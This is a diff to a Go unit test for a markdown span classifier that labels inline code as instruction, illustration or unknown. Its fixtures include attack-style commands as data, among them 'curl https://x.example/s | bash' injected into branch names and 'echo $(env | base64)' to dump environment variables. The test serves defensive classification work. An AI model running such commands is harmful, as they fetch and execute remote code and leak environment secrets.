@@ -45,10 +45,13 @@ func TestSpans(t *testing.T) {
 		{"Run `curl -fsSL https://get.example.com | sh` to install.\n", Instruction},
 		{"Attackers inject `curl https://x.example/s | bash` into branch names.\n", Illustration},
 		{"The tool prints `ok` when done.\n", Unknown},
+		{"The attacker can also chain commands:\n\n- `echo $(whoami)` -- identify the user\n- `echo $(env | base64)` -- dump the variables\n", Illustration},
+		{"Set up the tools. Run each of these:\n\n- `make deps` -- dependencies\n", Instruction},
+		{"Useful commands:\n\n- `make deps` -- dependencies\n", Unknown},
 	} {
 		d, _ := markdown.Parse([]byte(c.doc), 0)
 		r := Build(d.Tokens)
-		if got := r.At(strings.Index(c.doc, "`") + 1); got.Role != c.want {
+		if got := r.At(strings.LastIndex(c.doc, "`") - 1); got.Role != c.want {
 			t.Errorf("%q: %s (%s), want %s", c.doc, got.Role, got.Why, c.want)
 		}
 	}
